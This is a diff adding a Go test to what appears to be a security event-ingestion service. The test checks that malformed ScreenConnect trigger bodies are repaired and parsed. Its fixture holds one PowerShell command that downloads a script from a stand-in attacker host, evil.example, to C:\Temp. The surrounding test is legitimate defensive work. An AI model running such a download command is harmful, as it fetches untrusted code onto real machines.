@@ -19,6 +19,7 @@ import (
 	"github.com/rs/zerolog"
 	"github.com/segmentio/kafka-go"
 
+	"github.com/tripline/tripline/adapt"
 	"github.com/tripline/tripline/broker"
 	"github.com/tripline/tripline/ingest"
 	"github.com/tripline/tripline/kafkaio"
@@ -467,5 +468,42 @@ func TestHMAC(t *testing.T) {
 	e.srv = e2.srv
 	if got := post("msp-contoso", now, good, body); got != 401 {
 		t.Errorf("signature without --hmac-secrets: %d", got)
+	}
+}
+
+// TestScreenConnectUnescaped: a ScreenConnect trigger body whose command
+// was substituted without JSON escaping is accepted, and written repaired:
+// valid JSON that the adapter converts to the command as typed.
+func TestScreenConnectUnescaped(t *testing.T) {
+	e := newEnv(t, receive.Config{})
+	command := `Invoke-WebRequest "http://evil.example/a.ps1" -OutFile C:\Temp\a.ps1`
+	body := strings.NewReplacer("{Event.EventID}", "a1b2", "{Event.EventType}", "RanCommand",
+		"{Event.Time:o}", "2025-11-20T14:00:12.1234567Z", "{Event.Host}", "asmith", "{Event.Data}", command,
+		"{Connection.ProcessType}", "Host", "{Session.CustomProperty1}", "County", "{Connection.NetworkAddress}", "203.0.113.7",
+	).Replace(adapt.ScreenConnectTrigger)
+	if json.Valid([]byte(body)) {
+		t.Fatal("the test body is valid JSON")
+	}
+	if r := e.post("screenconnect", e.tokens["msp-northwind"], []byte(body)); r.status != http.StatusAccepted || r.body["records"] != 1.0 {
+		t.Fatalf("unescaped trigger body: %d %v", r.status, r.body)
+	}
+	// Not the template's shape: still malformed.
+	if r := e.post("screenconnect", e.tokens["msp-northwind"], []byte(`{"EventType":"RanCommand","Data":"a"b"}`)); r.status != http.StatusBadRequest {
+		t.Fatalf("malformed body: %d %v", r.status, r.body)
+	}
+	msgs := readTopic(t, e.b.Config(), receive.DefaultTopic)
+	if len(msgs) != 1 || !json.Valid(msgs[0].Value) {
+		t.Fatalf("%d messages; first valid JSON: %v", len(msgs), len(msgs) > 0 && json.Valid(msgs[0].Value))
+	}
+	a, _ := adapt.Get("screenconnect")
+	var got string
+	if err := a.Convert(msgs[0].Value, "msp-northwind", func(o adapt.Out) error {
+		if o.Event == nil {
+			return fmt.Errorf("%v %s", o.Err, o.Skip)
+		}
+		got = strings.Clone(o.Event.Script.Command)
+		return nil
+	}); err != nil || got != command {
+		t.Fatalf("converted to %q (%v), want %q", got, err, command)
 	}
 }
